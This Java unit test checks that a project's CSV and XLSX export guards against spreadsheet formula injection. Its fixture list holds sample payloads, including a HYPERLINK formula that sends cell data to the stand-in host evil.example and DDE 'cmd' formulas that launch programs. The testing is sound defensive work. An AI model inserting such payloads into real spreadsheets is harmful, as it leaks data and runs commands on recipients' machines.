package fi.pyykkinaru.text;

import static org.assertj.core.api.Assertions.assertThat;

import fi.pyykkinaru.text.ExportTable.Column;
import fi.pyykkinaru.text.ExportTable.Kind;
import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Text that a spreadsheet would run as a formula, written to CSV and XLSX and read back as a spreadsheet reads it. */
class ExportTableFormulaTest {

    /** OWASP's leading characters, each as a visitor might type it on a slip or a comment. */
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Lue lisää\")",
            "=1+2",
            "+SUM(1;2)",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
            "=cmd|' /C notepad'!'A1'");

    /** Text that merely looks odd, and plain numbers: a spreadsheet runs none of it, so it stays as typed. */
    private static final List<String> HARMLESS = List.of("Kävelevä kahvila", "1+1 on kaksi", "-2", "+358401234567",
            "-1,5", "0.5", "'lainaus'", "a=b", "");

    @Test
    void a_csv_cell_that_would_run_as_a_formula_reads_back_as_text_behind_a_single_quote() throws Exception {
        List<List<String>> rows = new ArrayList<>();
        FORMULAS.forEach(f -> rows.add(List.of(f, "1")));
        HARMLESS.forEach(h -> rows.add(List.of(h, "-2")));
        ExportTable table = new ExportTable(List.of(Column.of("=Otsikko", Kind.TEXT), Column.of("Arvio", Kind.NUMBER)), rows);

        List<List<String>> read = CsvFiles.rows(new ByteArrayInputStream(table.csv(Locale.of("fi"))));

        assertThat(read.getFirst()).containsExactly("'=Otsikko", "Arvio");
        List<List<String>> body = read.subList(1, read.size());
        for (int i = 0; i < FORMULAS.size(); i++) {
            String cell = body.get(i).get(0);
            assertThat(cell).as("row %d", i).isEqualTo("'" + FORMULAS.get(i));
            assertThat(ExportTable.unguarded(cell)).isEqualTo(FORMULAS.get(i));
            assertThat(body.get(i).get(1)).isEqualTo("1");
        }
        for (int i = 0; i < HARMLESS.size(); i++) {
            List<String> row = body.get(FORMULAS.size() + i);
            assertThat(row.get(0)).isEqualTo(HARMLESS.get(i));
            assertThat(ExportTable.unguarded(row.get(0))).isEqualTo(HARMLESS.get(i));
            assertThat(row.get(1)).as("a negative score is a number, not a formula").isEqualTo("-2");
        }
    }

    @Test
    void lines_written_directly_as_csv_are_guarded_the_same_way() throws Exception {
        byte[] csv = ExportTable.csv(List.of(List.of("Otsikko", "Kommentti"), List.of("@kaikki", "=2*3")));

        assertThat(CsvFiles.rows(new ByteArrayInputStream(csv)).get(1)).containsExactly("'@kaikki", "'=2*3");
    }

    @Test
    void an_xlsx_keeps_every_formula_like_text_as_a_quote_prefixed_string_cell_and_numbers_as_numbers() throws Exception {
        List<List<String>> rows = new ArrayList<>();
        FORMULAS.forEach(f -> rows.add(List.of(f, "-2")));
        HARMLESS.stream().filter(h -> !h.isEmpty()).forEach(h -> rows.add(List.of(h, "1")));
        ExportTable table = new ExportTable(List.of(Column.of("Otsikko", Kind.TEXT), Column.of("Arvio", Kind.NUMBER)), rows);

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(table.xlsx("Laput")))) {
            Sheet sheet = book.getSheet("Laput");
            for (int i = 0; i < rows.size(); i++) {
                Row row = sheet.getRow(i + 1);
                Cell text = row.getCell(0);
                String expected = rows.get(i).get(0);
                assertThat(text.getCellType()).as("row %d", i).isEqualTo(CellType.STRING);
                assertThat(text.getStringCellValue()).as("the visitor's exact words").isEqualTo(expected);
                assertThat(text.getCellStyle().getQuotePrefixed()).as("quote prefix of %s", expected)
                        .isEqualTo(FORMULAS.contains(expected));
                assertThat(row.getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
            }
            sheet.forEach(row -> row.forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA)));
        }
    }
}
